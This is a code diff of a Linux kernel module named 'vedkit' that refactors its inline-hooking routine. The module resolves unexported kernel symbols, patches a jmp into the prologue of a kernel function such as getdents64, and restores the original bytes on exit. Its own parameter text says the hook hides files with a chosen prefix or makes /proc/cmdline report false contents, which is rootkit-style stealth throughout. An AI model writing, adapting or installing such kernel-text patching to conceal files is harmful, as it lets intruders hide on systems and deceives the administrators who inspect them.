@@ -35,23 +35,14 @@
 #include <linux/seq_file.h>
 #include <linux/string.h>
 #include <linux/uaccess.h>
-#include <asm/ibt.h>
 #include <asm/ptrace.h>
 
 #include "vedkit.h"
-
-#define VK_JMP32 0xe9
-#define VK_CALL32 0xe8
-#define VK_INSN_LEN 5
 
 static char *vk_inline_target = "getdents64";
 module_param_named(inline_target, vk_inline_target, charp, 0400);
 MODULE_PARM_DESC(inline_target, "inline_hook: getdents64 (hides hide_prefix files) or cmdline (/proc/cmdline lies)");
 
-typedef void (*vk_text_poke_bp_t)(void *addr, const void *opcode, size_t len,
-				  const void *emulate);
-
-static const u8 vk_nop5[] = { 0x0f, 0x1f, 0x44, 0x00, 0x00 };
 static u8 *vk_site;
 static u8 vk_orig[VK_INSN_LEN], vk_jmp[VK_INSN_LEN];
 static atomic_t vk_inline_hits = ATOMIC_INIT(0), vk_inline_inside = ATOMIC_INIT(0);
@@ -155,12 +146,9 @@ static int vk_get_inline_addr(char *buf, const struct kernel_param *kp)
 
 static int vk_get_inline_hook(char *buf, const struct kernel_param *kp)
 {
-	s32 rel;
-
 	if (!vk_site || vk_site[0] != VK_JMP32)
 		return sysfs_emit(buf, "0\n");
-	memcpy(&rel, vk_site + 1, sizeof(rel));
-	return sysfs_emit(buf, "%ps\n", vk_site + VK_INSN_LEN + rel);
+	return sysfs_emit(buf, "%ps\n", vk_rel32_target(vk_site));
 }
 
 static const struct kernel_param_ops vk_inline_addr_ops = { .get = vk_get_inline_addr };
@@ -170,36 +158,9 @@ MODULE_PARM_DESC(inline_addr, "(read) inline_hook: patched address in core text"
 module_param_cb(inline_hook, &vk_inline_hook_ops, NULL, 0400);
 MODULE_PARM_DESC(inline_hook, "(read) inline_hook: live target of the jmp at the site, 0 if none");
 
-/* After the endbr64 (or its sealed nop) and the ftrace site. */
-static u8 *vk_after_prologue(u8 *fn)
-{
-	u8 *p = fn;
-
-	if (is_endbr(*(u32 *)p))
-		p += 4;
-	if (!memcmp(p, vk_nop5, VK_INSN_LEN) || p[0] == VK_CALL32)
-		p += VK_INSN_LEN;
-	return p;
-}
-
-static int vk_inline_poke(const u8 *insn, const u8 *emulate)
-{
-	vk_text_poke_bp_t poke = (vk_text_poke_bp_t)vk_lookup("text_poke_bp");
-	struct mutex *text_mutex = (struct mutex *)vk_lookup("text_mutex");
-
-	if (!poke || !text_mutex)
-		return -ENOENT;
-	mutex_lock(text_mutex);
-	poke(vk_site, insn, VK_INSN_LEN, emulate);
-	mutex_unlock(text_mutex);
-	return 0;
-}
-
 int vk_inline_hook_init(void)
 {
 	unsigned long fn = 0, hook = 0;
-	long rel;
-	s32 rel32;
 	int i, ret;
 
 	for (i = 0; i < ARRAY_SIZE(vk_targets); i++) {
@@ -214,18 +175,11 @@ int vk_inline_hook_init(void)
 	if (!fn)
 		return -ENOENT;
 	vk_site = vk_after_prologue((u8 *)fn);
-	/* As in "dispatch": keep the compiler from folding "- 5" into a relocation. */
-	OPTIMIZER_HIDE_VAR(hook);
-	rel = (long)(hook - (unsigned long)(vk_site + VK_INSN_LEN));
-	if (rel != (s32)rel) {
-		vk_site = NULL;
-		return -ERANGE;
+	ret = vk_rel32_insn(vk_jmp, VK_JMP32, vk_site, hook);
+	if (!ret) {
+		memcpy(vk_orig, vk_site, VK_INSN_LEN);
+		ret = vk_poke(vk_site, vk_jmp, NULL);
 	}
-	rel32 = rel;
-	vk_jmp[0] = VK_JMP32;
-	memcpy(vk_jmp + 1, &rel32, sizeof(rel32));
-	memcpy(vk_orig, vk_site, VK_INSN_LEN);
-	ret = vk_inline_poke(vk_jmp, NULL);
 	if (ret) {
 		vk_site = NULL;
 		return ret;
@@ -240,7 +194,7 @@ void vk_inline_hook_exit(void)
 	if (!vk_site)
 		return;
 	if (!memcmp(vk_site, vk_jmp, VK_INSN_LEN))
-		vk_inline_poke(vk_orig, vk_jmp);
+		vk_poke(vk_site, vk_orig, vk_jmp);
 	else
 		pr_info("inline hook already removed by someone else\n");
 	/* text_poke_bp() synced every CPU: no new entry; wait for the ones inside */
